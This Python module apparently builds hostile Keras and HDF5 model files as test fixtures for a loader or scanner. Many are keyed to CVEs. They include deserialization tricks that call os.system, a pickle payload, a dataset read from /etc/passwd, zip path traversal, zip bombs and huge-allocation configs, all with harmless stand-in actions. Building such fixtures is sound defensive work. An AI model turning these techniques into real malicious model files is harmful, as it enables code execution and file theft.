"""`.keras` and `.h5` files that bring code, links or sizes of their own."""

import io
import json
import os
import zipfile

import h5py
import numpy as np

from .files import flag, hostile, put


def layer(kind, name, config=None, module="keras.layers", inbound=(), **more):
    config = {"name": name, "trainable": True, **(config or {})}
    return {"module": module, "class_name": kind, "config": config, "registered_name": None, "name": name,
            "inbound_nodes": list(inbound), **more}  # fmt: skip


def keras_tensor(name, shape):
    config = {"shape": shape, "dtype": "float32", "keras_history": [name, 0, 0]}
    return {"class_name": "__keras_tensor__", "config": config}


def network(*layers, output="out"):
    """Image → the given layers → output, as Keras writes a functional model."""
    begin = layer("InputLayer", "in", {"batch_shape": [None, 4], "dtype": "float32"})
    config = {
        "name": "m",
        "trainable": True,
        "layers": [begin, *layers],
        "input_layers": [["in", 0, 0]],
        "output_layers": [[output, 0, 0]],
    }
    about = {"module": "keras.src.models.functional", "class_name": "Functional", "registered_name": "Functional"}
    return {**about, "config": config, "build_config": {"input_shape": [None, 4]}}


def after(name, shape=(None, 4)):
    return [{"args": [keras_tensor(name, list(shape))], "kwargs": {}}]


def dense(name="out", units=4, source="in", shape=(None, 4)):
    return layer(
        "Dense", name, {"units": units, "activation": "linear", "use_bias": True}, inbound=after(source, shape)
    )


def keras_file(path, config, weights=lambda file: None):
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        weights(file)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", content.getvalue())


def good_weights(file):
    group = file.create_group("layers/dense/vars")
    group["0"], group["1"] = np.eye(4, dtype=np.float32), np.zeros(4, np.float32)


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


LAMBDA = {
    "class_name": "__lambda__",
    "config": {"value": "4wEAAAAAAAAAAAAAAAEAAABTAAAA", "defaults": None, "closure": None},
}


@hostile("lambda.keras", "code")
def lambda_keras(path):
    """CVE-2024-3660 in today's format."""
    keras_file(path, network(layer("Lambda", "out", {"function": LAMBDA, "arguments": {}}, inbound=after("in"))))


@hostile("function.keras", "code")
def function_keras(path):
    """CVE-2025-1550: a module and a function of the file's choice, called while the layers are made."""
    call = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    node = [{"args": [f"touch {flag()}"], "kwargs": {}}]
    keras_file(path, network({**call, "name": "evil", "inbound_nodes": node}, dense()), good_weights)


@hostile("get_file.keras", "code")
def get_file_keras(path):
    """CVE-2025-8747: the same with a function of Keras's own, which downloads and unpacks."""
    call = {**function("keras.utils", "get_file"), "name": "evil"}
    node = [
        {
            "args": ["x"],
            "kwargs": {"origin": f"file://{os.path.abspath(__file__)}", "cache_dir": os.path.dirname(flag())},
        }
    ]
    keras_file(path, network({**call, "inbound_nodes": node}, dense()), good_weights)


@hostile("unsafe.keras", "code")
def unsafe_keras(path):
    """CVE-2025-9906: `keras.config.enable_unsafe_deserialization`, then a Lambda."""
    call = {
        **function("keras.config", "enable_unsafe_deserialization"),
        "name": "evil",
        "inbound_nodes": [{"args": [], "kwargs": {}}],
    }
    keras_file(path, network(call, layer("Lambda", "out", {"function": LAMBDA}, inbound=after("in"))))


@hostile("wrapper.keras", "code")
def wrapper_keras(path):
    """CVE-2025-49655: a pickle inside a layer for torch's modules."""
    module = {"class_name": "__bytes__", "config": {"value": "gASV"}}
    keras_file(path, network(layer("TorchModuleWrapper", "out", {"module": module}, inbound=after("in"))))


@hostile("saved_model_layer.keras", "code")
def saved_model_layer_keras(path):
    keras_file(
        path, network(layer("TFSMLayer", "out", {"filepath": "/tmp", "call_endpoint": "serve"}, inbound=after("in")))
    )


@hostile("switch.keras", "code")
def switch_keras(path):
    """An operation without input calls a setting of Keras in its safe mode (Keras 3.15)."""
    arguments = [0, [function("keras.config", "set_dtype_policy")], "float16"]
    call = layer("Switch", "evil", module="keras.src.ops.core", inbound=[{"args": arguments, "kwargs": {}}])
    keras_file(path, network({**call, "registered_name": "Switch", "config": {"name": "evil"}}, dense()), good_weights)


@hostile("disguised_function.keras", "code")
def disguised_function_keras(path):
    """A function under the registered name of a class that is known: Keras looks functions up by another key."""
    call = {**function("keras.config", "set_dtype_policy"), "registered_name": "face>Mean"}
    keras_file(path, network(layer("Activation", "out", {"activation": call}, inbound=after("in"))))


@hostile("disguised_lambda.keras", "code")
def disguised_lambda_keras(path):
    config = {**LAMBDA, "module": "builtins", "registered_name": "face>Mean"}
    keras_file(path, network(layer("Activation", "out", {"activation": config}, inbound=after("in"))))


@hostile("split.keras", "memory")
def split_keras(path):
    """An operation of a hundred million outputs."""
    call = layer("Split", "out", {"indices_or_sections": 100_000_000, "axis": 0}, "keras.src.ops.numpy", after("in"))
    keras_file(path, network({**call, "registered_name": "Split"}))


@hostile("map.keras", "code")
def map_keras(path):
    call = layer("Map", "out", module="keras.src.ops.core")
    node = [{"args": [function("builtins", "relu"), keras_tensor("in", [None, 4])], "kwargs": {}}]
    keras_file(path, network({**call, "registered_name": "Map", "config": {"name": "out"}, "inbound_nodes": node}))


@hostile("unconnected.keras", "code")
def unconnected_keras(path):
    keras_file(path, network(dense("evil"), dense()), good_weights)


@hostile("huge_layer.keras", "memory")
def huge_layer_keras(path):
    keras_file(path, network(dense(units=200_000_000)), good_weights)


@hostile("huge_output.keras", "memory")
def huge_output_keras(path):
    shape = [{"args": [keras_tensor("in", [None, 4])], "kwargs": {}}]
    steps = layer("Reshape", "map", {"target_shape": [2, 2, 1]}, inbound=shape)
    larger = layer("UpSampling2D", "out", {"size": [100_000, 100_000]}, inbound=after("map", (None, 2, 2, 1)))
    keras_file(path, network(steps, larger))


@hostile("huge_weights.keras", "memory")
def huge_weights_keras(path):
    """CVE-2026-0897: a data set that claims gigabytes and holds nothing."""
    keras_file(
        path, network(dense()), lambda file: file.create_dataset("layers/dense/vars/0", (1_000_000, 1_000), "f4")
    )


@hostile("filled_weights.keras", "memory")
def filled_weights_keras(path):
    def weights(file):
        file.create_dataset(
            "layers/dense/vars/0", (1_000_000, 500), "f4", chunks=(100_000, 500), compression="gzip", fillvalue=1.0
        )

    keras_file(path, network(dense()), weights)


@hostile("external.keras", "read")
def external_keras(path):
    """CVE-2026-1669: weights that lie in a file of the reader's."""

    def weights(file):
        file.create_dataset("layers/dense/vars/0", (4, 4), "f4", external=[("/etc/passwd", 0, 64)])

    keras_file(path, network(dense()), weights)


@hostile("external_link.keras", "read")
def external_link_keras(path):
    def weights(file):
        file["layers"] = h5py.ExternalLink("/tmp/other.h5", "/layers")

    keras_file(path, network(dense()), weights)


@hostile("soft_link.keras", "read")
def soft_link_keras(path):
    def weights(file):
        good_weights(file)
        file["more"] = h5py.SoftLink("/layers")

    keras_file(path, network(dense()), weights)


@hostile("virtual.keras", "read")
def virtual_keras(path):
    def weights(file):
        layout = h5py.VirtualLayout((4, 4), "f4")
        layout[:] = h5py.VirtualSource("/tmp/other.h5", "x", (4, 4))
        file.create_virtual_dataset("layers/dense/vars/0", layout)

    keras_file(path, network(dense()), weights)


@hostile("cycle.keras", "hang")
def cycle_keras(path):
    def weights(file):
        file.create_group("a")["b"] = file["/"]
        file.create_dataset("x", (4,), "S4")

    keras_file(path, network(dense()), weights)


@hostile("nested.keras", "crash")
def nested_keras(path):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", "[" * 100_000 + "]" * 100_000)
        archive.writestr("metadata.json", "{}")


@hostile("outside.keras", "write")
def outside_keras(path):
    keras_file(path, network(dense()), good_weights)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("assets/../../../outside.txt", "x")


@hostile("bomb.keras", "memory")
def bomb_keras(path):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("metadata.json", "{}")
        archive.writestr("config.json", " " * 400_000_000)


@hostile("junk.keras", "error")
def junk_keras(path):
    put(path, b"PK\x03\x04" + bytes(200))


def h5_file(path, config, extra=lambda file: None):
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([b"in", b"out"])
        for name in ("in", "out"):
            group.create_group(name).attrs["weight_names"] = np.array([], "S1")
        extra(file)


def old_network(*layers):
    begin = {
        "class_name": "InputLayer",
        "config": {"name": "in", "batch_input_shape": [None, 4], "dtype": "float32"},
        "name": "in",
        "inbound_nodes": [],
    }
    config = {"name": "m", "layers": [begin, *layers], "input_layers": [["in", 0, 0]], "output_layers": [["out", 0, 0]]}
    return {"class_name": "Functional", "config": config}


def old_layer(kind, config, nodes=((("in", 0, 0, {}),),)):  # noqa: B006 nobody writes to it
    return {
        "class_name": kind,
        "config": {"name": "out", **config},
        "name": "out",
        "inbound_nodes": [[list(one) for one in node] for node in nodes],
    }


@hostile("lambda.h5", "code")
def lambda_h5(path):
    """CVE-2024-3660 and CVE-2025-9905: a Lambda in the old format, which Keras's safe mode did not look at."""
    h5_file(
        path, old_network(old_layer("Lambda", {"function": ["4wEAAAAAAAAA\n", None, None], "function_type": "lambda"}))
    )


@hostile("disguised_lambda.h5", "code")
def disguised_lambda_h5(path):
    """In files of Keras 2 the class alone counts, whatever is registered."""
    evil = old_layer("Lambda", {"function": ["4wEAAAAAAAAA\n", None, None], "function_type": "lambda"})
    h5_file(path, old_network({**evil, "registered_name": "face>Mean"}))


@hostile("operation.h5", "code")
def operation_h5(path):
    h5_file(
        path, old_network(old_layer("TFOpLambda", {"function": "io.write_file"}, [[["in", 0, 0, {"contents": "x"}]]]))
    )


@hostile("huge_layer.h5", "memory")
def huge_layer_h5(path):
    h5_file(path, old_network(old_layer("Dense", {"units": 200_000_000, "activation": "linear", "use_bias": True})))


@hostile("huge_weights.h5", "memory")
def huge_weights_h5(path):
    old = old_network(old_layer("Dense", {"units": 4, "activation": "linear"}))
    h5_file(path, old, lambda file: file.create_dataset("model_weights/out/kernel:0", (1_000_000, 1_000), "f4"))


@hostile("external_link.h5", "read")
def external_link_h5(path):
    def extra(file):
        file["optimizer_weights"] = h5py.ExternalLink("/tmp/other.h5", "/x")

    h5_file(path, old_network(old_layer("Dense", {"units": 4, "activation": "linear"})), extra)


@hostile("weights_only.h5", "error")
def weights_only_h5(path):
    with h5py.File(path, "w") as file:
        file["x"] = np.zeros(3)


@hostile("junk.h5", "error")
def junk_h5(path):
    put(path, b"\x89HDF\r\n\x1a\n" + bytes(200))
